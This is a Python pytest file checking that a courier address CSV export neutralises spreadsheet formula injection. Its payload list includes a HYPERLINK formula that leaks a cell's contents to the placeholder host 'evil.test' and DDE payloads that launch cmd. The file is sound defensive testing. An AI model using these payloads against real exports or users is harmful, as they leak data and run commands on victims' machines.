"""The courier's address export is safe to open in a spreadsheet: a name, address, remark or
SKU that starts like a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return, also after
leading whitespace) comes out quoted with a ``'`` in front, as OWASP recommends against CSV
injection, and parses back (csv module) to exactly that text."""

from __future__ import annotations

import csv
import io

import pytest

from models.orders import MerchantOrder
from resolvers.logistics.batch_documents import EXPORT_COLUMNS, csv_cell
from tests.checkout_support import pk
from tests.order_support import make_order_world
from tests.test_logistics import BATCH, packed, sandbox_range

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =cmd|'/c notepad'!A1",
    " \t @SUM(1)",
]


@pytest.fixture
async def world():
    return await make_order_world(stock=30)


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_cell_that_could_be_a_formula_gets_a_quote_in_front(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Li Lei", "1 West Lake Rd", "A=B", "SKU-1 x2", "", "x-1"])
def test_plain_text_is_left_alone(value):
    assert csv_cell(value) == value


async def test_the_export_neutralises_every_payload_and_quotes_every_cell(gql, client, world):
    orders = await packed(gql, client, world, len(PAYLOADS))
    planted = {}
    for order_id, evil in zip(orders, PAYLOADS, strict=True):
        order = await MerchantOrder.get(id=pk(order_id))
        address = {
            **order.shipping_address,
            "name": evil,
            "street": evil,
            "city": evil,
            "district": evil,
            "postalCode": evil,
        }
        await MerchantOrder.filter(id=order.id).update(shipping_address=address, remark=evil)
        planted[order.number] = evil
    await sandbox_range(gql, world, 1000, 1000 + len(PAYLOADS) - 1)
    body = await gql(
        BATCH,
        {"input": {"orders": orders, "provider": "sandbox_express"}},
        token=world.a.logistics.token,
    )
    result = body["data"]["shipmentBatchCreate"]
    assert result["errors"] == [], result
    export = result["batch"]["addressExport"]

    rows = list(csv.reader(io.StringIO(export, newline="")))
    assert rows[0] == list(EXPORT_COLUMNS)
    assert len(rows) == 1 + len(PAYLOADS)
    for row in rows[1:]:
        record = dict(zip(EXPORT_COLUMNS, row, strict=True))
        evil = planted[record["order_number"]]
        for column in ("name", "street", "city", "district", "postal_code", "remark"):
            assert record[column] == "'" + evil, (column, record[column])
        # nothing a spreadsheet would evaluate is left in any cell
        for cell in row:
            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell
            assert not cell.startswith(("\t", "\r")), cell
    # every cell is quoted: the file is what a writer quoting every cell makes of its rows
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == export
